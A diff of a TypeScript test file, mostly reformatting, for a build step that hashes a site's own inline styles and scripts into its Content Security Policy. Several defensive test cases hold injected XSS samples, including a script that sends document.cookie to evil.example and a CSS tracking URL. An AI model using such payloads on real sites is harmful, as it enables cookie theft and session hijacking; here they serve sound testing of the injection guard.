@@ -1,6 +1,15 @@
 import { createHash } from 'node:crypto';
 import { describe, expect, test } from 'vitest';
-import { hashHeaders, hashPage, inlineScripts, inlineStyles, isConcatenationOf, sourceHash, withHashes, type KnownInline } from '../../src/lib/inline-hashes';
+import {
+  hashHeaders,
+  hashPage,
+  inlineScripts,
+  inlineStyles,
+  isConcatenationOf,
+  sourceHash,
+  withHashes,
+  type KnownInline,
+} from '../../src/lib/inline-hashes';
 
 const POLICY = "default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self' data:";
 const sha = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
@@ -33,12 +42,18 @@ describe('withHashes', () => {
     expect(withHashes(POLICY, { styles: ["'sha256-a'", "'sha256-b'", "'sha256-a'"], scripts: ["'sha256-c'"] })).toBe(
       "default-src 'self'; script-src 'self' 'sha256-c'; style-src 'self' 'sha256-a' 'sha256-b'; img-src 'self' data:",
     );
-    expect(withHashes("style-src 'self' 'sha256-a'", { styles: ["'sha256-a'"], scripts: [] })).toBe("style-src 'self' 'sha256-a'");
+    expect(withHashes("style-src 'self' 'sha256-a'", { styles: ["'sha256-a'"], scripts: [] })).toBe(
+      "style-src 'self' 'sha256-a'",
+    );
   });
 
   test('refuses a policy without the directive it must add to, rather than leave the page blocked', () => {
-    expect(() => withHashes("default-src 'self'", { styles: ["'sha256-a'"], scripts: [] })).toThrow(/expected a style-src directive/);
-    expect(() => withHashes("style-src 'self'", { styles: [], scripts: ["'sha256-a'"] })).toThrow(/expected a script-src directive/);
+    expect(() => withHashes("default-src 'self'", { styles: ["'sha256-a'"], scripts: [] })).toThrow(
+      /expected a style-src directive/,
+    );
+    expect(() => withHashes("style-src 'self'", { styles: [], scripts: ["'sha256-a'"] })).toThrow(
+      /expected a script-src directive/,
+    );
     expect(withHashes("default-src 'self'", { styles: [], scripts: [] })).toBe("default-src 'self'");
   });
 });
@@ -66,7 +81,11 @@ describe('hashPage', () => {
     const head = '<style>a{}</style><style>b{}</style><script type="module">go()</script>';
     const { html, hashes } = hashPage(page(head), 'index.html', known);
     expect(hashes).toEqual({ styles: [sha('a{}'), sha('b{}')], scripts: [sha('go()')] });
-    expect(html).toBe(page(head).replace("style-src 'self'", `style-src 'self' ${sha('a{}')} ${sha('b{}')}`).replace("script-src 'self'", `script-src 'self' ${sha('go()')}`));
+    expect(html).toBe(
+      page(head)
+        .replace("style-src 'self'", `style-src 'self' ${sha('a{}')} ${sha('b{}')}`)
+        .replace("script-src 'self'", `script-src 'self' ${sha('go()')}`),
+    );
   });
 
   test('allows a stylesheet that merges several of the bundle’s chunks, as Astro writes them', () => {
@@ -75,28 +94,55 @@ describe('hashPage', () => {
 
   test('leaves a page without inline styles or scripts as it is, and JSON-LD data unhashed', () => {
     const head = '<script src="/a.js"></script><script type="application/ld+json">{"@type":"Article"}</script>';
-    expect(hashPage(page(head), 'index.html', known)).toEqual({ html: page(head), hashes: { styles: [], scripts: [] } });
+    expect(hashPage(page(head), 'index.html', known)).toEqual({
+      html: page(head),
+      hashes: { styles: [], scripts: [] },
+    });
   });
 
   test.each([
-    ['an injected <script>', '', '<p>x</p><script>alert(document.cookie)</script>', '<script> "alert(document.cookie)"'],
-    ['an injected module script', '', '<script type="module">fetch("https://evil.example/?"+document.cookie)</script>', '<script> "fetch(\\"https://evil.example/?\\"+document.cookie)"'],
+    [
+      'an injected <script>',
+      '',
+      '<p>x</p><script>alert(document.cookie)</script>',
+      '<script> "alert(document.cookie)"',
+    ],
+    [
+      'an injected module script',
+      '',
+      '<script type="module">fetch("https://evil.example/?"+document.cookie)</script>',
+      '<script> "fetch(\\"https://evil.example/?\\"+document.cookie)"',
+    ],
     ['the site script without type="module"', '', '<script>go()</script>', '<script> "go()"'],
     ['an injected <style>', '<style>a{}</style>', '<style>body{display:none}</style>', '<style> "body{display:none}"'],
-    ['a stylesheet that only starts like the site’s', '<style>a{}.x{background:url(//evil.example/t)}</style>', '', '<style> "a{}.x{background:url(//evil.example/t)}"'],
+    [
+      'a stylesheet that only starts like the site’s',
+      '<style>a{}.x{background:url(//evil.example/t)}</style>',
+      '',
+      '<style> "a{}.x{background:url(//evil.example/t)}"',
+    ],
     ['a script file with inline code too', '', '<script src="/a.js">alert(1)</script>', '<script> "alert(1)"'],
-    ['a JSON-LD block that is not JSON', '', '<script type="application/ld+json">alert(1)</script>', '<script> "alert(1)"'],
+    [
+      'a JSON-LD block that is not JSON',
+      '',
+      '<script type="application/ld+json">alert(1)</script>',
+      '<script> "alert(1)"',
+    ],
     ['a script whose tag has no space before "/"', '', '<script/x>alert(1)</script>', '<script> "alert(1)"'],
     ['a <style> with no end tag', '', '<style>body{display:none}', '<style> "<style>body{display:none}</body></html>"'],
   ])('stops the build on %s, naming the page and the block’s first characters', (_name, head, body, what) => {
     expect(() => hashPage(page(head, body), 'waic/index.html', known)).toThrow(
-      new Error(`waic/index.html: Unexpected inline ${what}: expected only the stylesheets and scripts the site's own build inlines (docs/security.md, the CSP contract)`),
+      new Error(
+        `waic/index.html: Unexpected inline ${what}: expected only the stylesheets and scripts the site's own build inlines (docs/security.md, the CSP contract)`,
+      ),
     );
   });
 
   test('shows at most 60 characters of the refused block', () => {
     const code = `alert(${'1'.repeat(100)})`;
-    expect(() => hashPage(page('', `<script>${code}</script>`), 'index.html', known)).toThrow(`Unexpected inline <script> "${code.slice(0, 60)}…"`);
+    expect(() => hashPage(page('', `<script>${code}</script>`), 'index.html', known)).toThrow(
+      `Unexpected inline <script> "${code.slice(0, 60)}…"`,
+    );
   });
 
   test('stops on a page with inline code and no policy, naming the file', () => {
